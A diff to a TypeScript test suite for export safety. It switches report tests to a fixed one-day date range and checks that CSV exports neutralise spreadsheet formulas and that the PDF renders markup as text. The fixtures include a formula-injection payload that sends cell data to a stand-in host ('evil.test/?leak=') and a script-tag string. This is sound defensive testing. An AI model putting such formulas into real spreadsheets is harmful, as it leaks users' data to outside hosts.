@@ -13,6 +13,11 @@ import type { TeamScope } from './trpc'
 // Names and model strings come from users and tools. In a CSV they must not become formulas; in a PDF they are
 // text; in HTML email they are escaped (core escapeHtml, used by the alert email).
 
+const today = () => {
+  const day = new Date().toISOString().slice(0, 10)
+  return { kind: 'fixed' as const, from: day, to: day }
+}
+
 const HOSTILE = ['=HYPERLINK("http://evil.test/?leak="&A1,"Open")', '+1+1', '-1+1', '@SUM(A1:A2)', '\tTAB', '\rCR']
 
 describe('output safety: exports and reports', () => {
@@ -51,7 +56,7 @@ describe('output safety: exports and reports', () => {
   })
 
   it('report CSVs neutralise the group column (models, days, ids) and keep the numbers as numbers', async () => {
-    const data = await buildReport(db, scope, { metrics: ['cost', 'runs'], groupBy: 'model', range: { kind: 'rolling', preset: 'last-7-days' } })
+    const data = await buildReport(db, scope, { metrics: ['cost', 'runs'], groupBy: 'model', range: today() })
     const cells = parse(reportCsv(data).toString('utf8')) as string[][]
     const keys = cells.slice(1, -1).map((r) => r[0]!)
     for (const hostile of HOSTILE) expect(keys).toContain(`'${hostile}`)
@@ -61,7 +66,7 @@ describe('output safety: exports and reports', () => {
   })
 
   it('the PDF shows team and prompt names as text, markup and formulas included', async () => {
-    const data = await buildReport(db, scope, { metrics: ['cost'], groupBy: 'day', range: { kind: 'rolling', preset: 'last-7-days' } })
+    const data = await buildReport(db, scope, { metrics: ['cost'], groupBy: 'day', range: today() })
     const text = (await new PDFParse({ data: new Uint8Array(await reportPdf(data)) }).getText()).text
     expect(text).toContain('<script>alert("team")</script>')
     expect(text).toContain('=HYPERLINK(')
